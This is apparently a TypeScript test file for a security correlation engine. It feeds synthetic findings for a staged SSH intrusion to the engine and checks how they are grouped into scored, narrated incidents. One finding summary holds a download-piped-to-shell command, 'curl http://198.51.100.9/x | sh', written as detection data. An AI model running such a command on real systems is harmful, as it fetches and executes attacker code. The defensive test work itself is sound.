import {
  asEventId,
  asFindingId,
  asRuleId,
  asTenantId,
  attacksOfTags,
  type Entity,
  type Finding,
  type SeverityId,
} from "@xdr/event";
import { expect, test } from "vitest";
import { correlate, createCorrelator } from "./correlate.ts";
import { explainLinks } from "./explain.ts";
import { storyStepsMax } from "./limits.ts";

const minuteMs = 60_000;
const start = Date.UTC(2026, 2, 1, 9, 0, 0);

const entity = (kind: Entity["kind"], key: string, role: Entity["role"]): Entity => ({
  kind,
  key,
  label: key.includes("\\") ? key.slice(key.indexOf("\\") + 1) : key,
  role,
});
const attacker = entity("address", "203.0.113.7", "source");
const device = entity("device", "web-1", "target");
const deploy = entity("user", "web-1\\deploy", "target");

let serial = 0;
const finding = (
  minute: number,
  rule: { title: string; severity: SeverityId; tags: readonly string[]; summary?: string },
  rest: Partial<Finding> & Pick<Finding, "phase" | "entities">,
): Finding => {
  serial += 1;
  const time = start + minute * minuteMs;
  return {
    id: asFindingId(`f${String(serial).padStart(4, "0")}`),
    tenantId: asTenantId("t1"),
    ruleId: asRuleId(rule.title),
    ruleVersion: "0",
    title: rule.title,
    summary: rule.summary ?? `${rule.title}.`,
    kind: "rule",
    severity: rule.severity,
    time,
    firstEventTime: time,
    lastEventTime: time,
    eventIds: [asEventId(`e${serial}`)],
    eventCount: 1,
    attacks: attacksOfTags(rule.tags),
    group: {},
    createdTime: time,
    ...rest,
  };
};

const portScan = {
  title: "Many ports probed from one address",
  severity: 2,
  tags: ["attack.reconnaissance", "attack.t1046"],
} as const;
const bruteForce = {
  title: "SSH passwords guessed from one address",
  severity: 3,
  tags: ["attack.credential-access", "attack.t1110.001"],
} as const;

const intrusion = (): Finding[] => [
  ...Array.from({ length: 40 }, (_, n) =>
    finding(n * 0.1, portScan, { phase: "attempt", entities: [attacker, device] }),
  ),
  ...Array.from({ length: 12 }, (_, n) =>
    finding(5 + n, bruteForce, {
      phase: "attempt",
      kind: "correlation",
      firstEventTime: start + (4 + n) * minuteMs,
      eventCount: 40,
      entities: [attacker, device],
    }),
  ),
  finding(
    17,
    {
      title: "SSH login after many failures",
      severity: 4,
      tags: ["attack.initial-access", "attack.t1078"],
      summary: "deploy logged in to web-1 from 203.0.113.7.",
    },
    { phase: "effect", entities: [attacker, device, deploy] },
  ),
  finding(
    19,
    {
      title: "Download piped into a shell",
      severity: 4,
      tags: ["attack.execution", "attack.t1059.004"],
      summary: "deploy started curl http://198.51.100.9/x | sh on web-1.",
    },
    { phase: "effect", entities: [device, deploy, entity("process", "web-1/812/sh", "target")] },
  ),
  finding(
    24,
    {
      title: "New cron entry runs from a temporary folder",
      severity: 4,
      tags: ["attack.persistence", "attack.t1053.003"],
    },
    { phase: "effect", entities: [device] },
  ),
  finding(
    40,
    {
      title: "Large upload to an unknown address",
      severity: 4,
      tags: ["attack.exfiltration", "attack.t1048"],
      summary: "curl sent 2 GB from web-1 to 198.51.100.9.",
    },
    {
      phase: "effect",
      entities: [device, entity("address", "198.51.100.9", "related")],
    },
  ),
];

test("an SSH intrusion is one incident that tells its story", () => {
  const incidents = correlate(intrusion());
  expect(incidents).toHaveLength(1);
  const [incident] = incidents;
  expect(incident?.title).toBe(
    "SSH brute force led to login as deploy on web-1, then execution, persistence and exfiltration",
  );
  expect(incident?.score).toBe(94);
  expect(incident?.severity).toBe(5);
  expect(incident?.scoreParts.map((part) => [part.points, part.label])).toMatchInlineSnapshot(`
    [
      [
        45,
        "The most severe finding is high: SSH login after many failures.",
      ],
      [
        20,
        "6 tactics were seen: reconnaissance, initial access, execution, persistence, credential access and exfiltration.",
      ],
      [
        15,
        "SSH brute force from 203.0.113.7 was followed by login as deploy on web-1 from the same address.",
      ],
      [
        4,
        "524 events count towards it.",
      ],
      [
        10,
        "Something inside talked to 198.51.100.9 outside.",
      ],
    ]
  `);
  expect(incident?.story.map((step) => step.sentence)).toMatchInlineSnapshot(`
    [
      "Port scan from 203.0.113.7 on web-1 (40 findings, 40 events).",
      "SSH brute force from 203.0.113.7 on web-1 (12 findings, 480 events).",
      "SSH login after many failures: deploy logged in to web-1 from 203.0.113.7.",
      "Download piped into a shell: deploy started curl http://198.51.100.9/x | sh on web-1.",
      "New cron entry runs from a temporary folder.",
      "Large upload to an unknown address: curl sent 2 GB from web-1 to 198.51.100.9.",
    ]
  `);
  expect(incident?.tactics).toEqual(["TA0043", "TA0001", "TA0002", "TA0003", "TA0006", "TA0010"]);
  expect(incident?.entities.slice(0, 3).map((e) => e.label)).toMatchInlineSnapshot(`
    [
      "203.0.113.7",
      "web-1",
      "deploy",
    ]
  `);
});

test("each tie of the intrusion is explained", () => {
  expect(explainLinks(intrusion()).map((link) => link.why)).toMatchInlineSnapshot(`
    [
      "53 findings share the address 203.0.113.7, not more than 24 hours apart.",
      "4 findings share the device web-1, where both had an effect, not more than 1 hour apart.",
      "2 findings share the user deploy, not more than 4 hours apart.",
    ]
  `);
});

test("forty scans by one address are one incident, and it is not a severe one", () => {
  const scans = intrusion().slice(0, 40);
  const [incident, ...others] = correlate(scans);
  expect(others).toEqual([]);
  expect(incident?.title).toBe("Port scan from 203.0.113.7 against web-1");
  expect(incident?.story.map((step) => step.sentence)).toEqual([
    "Port scan from 203.0.113.7 on web-1 (40 findings, 40 events).",
  ]);
  expect(incident?.severity).toBe(1);
  expect(incident?.score).toBe(2);
});

test("two unrelated attackers of one public device are two incidents", () => {
  const other = entity("address", "192.0.2.66", "source");
  const root = entity("user", "web-1\\root", "target");
  const noise = Array.from({ length: 5 }, (_, n) =>
    finding(15 + n, bruteForce, { phase: "attempt", entities: [other, device, root] }),
  );
  const incidents = correlate([...intrusion(), ...noise]);
  expect(incidents.map((incident) => incident.title)).toEqual([
    "SSH brute force led to login as deploy on web-1, then execution, persistence and exfiltration",
    "SSH brute force from 192.0.2.66 against web-1",
  ]);
});

test("brute force from many addresses joins the login that it led to, through the user", () => {
  const spread = Array.from({ length: 30 }, (_, n) =>
    finding(n, bruteForce, {
      phase: "attempt",
      entities: [entity("address", `192.0.2.${n + 1}`, "source"), device, deploy],
    }),
  );
  expect(correlate(spread)).toHaveLength(30);
  const login = finding(
    40,
    { title: "SSH login from a new country", severity: 3, tags: ["attack.t1078"] },
    { phase: "effect", entities: [attacker, device, deploy] },
  );
  expect(correlate([...spread, login])).toHaveLength(1);
});

test("told while it happens, it grows and takes in what turned out to be a part of it", () => {
  const [early, late] = [intrusion(), []] as [Finding[], Finding[]];
  late.push(...early.splice(52, 1));
  const engine = createCorrelator();
  const before = engine.add(early);
  expect(before.changed).toHaveLength(2);
  const after = engine.add(late);
  expect(after.changed).toHaveLength(1);
  const kept = after.changed[0]?.id;
  const gone = before.changed.map((incident) => incident.id).filter((id) => id !== kept);
  expect(after.absorbed).toEqual([{ ids: gone, into: kept }]);
  expect(engine.add(late)).toEqual({
    ...{ changed: [], absorbed: [], late: [] },
    ...{ dissolved: [], replacing: [] },
  });
});

test("a story that is too long leaves out its least severe lines", () => {
  const effects = Array.from({ length: 250 }, (_, n) =>
    finding(
      n * 0.1,
      { title: `Rule ${n}`, severity: n % 5 === 0 ? 2 : 4, tags: ["attack.execution"] },
      { phase: "effect", entities: [device] },
    ),
  );
  const [incident, ...others] = correlate(effects);
  expect(others).toEqual([]);
  expect(incident?.findingIds).toHaveLength(250);
  expect(incident?.story).toHaveLength(storyStepsMax);
  expect(incident?.story.every((step) => step.severity === 4)).toBe(true);
});
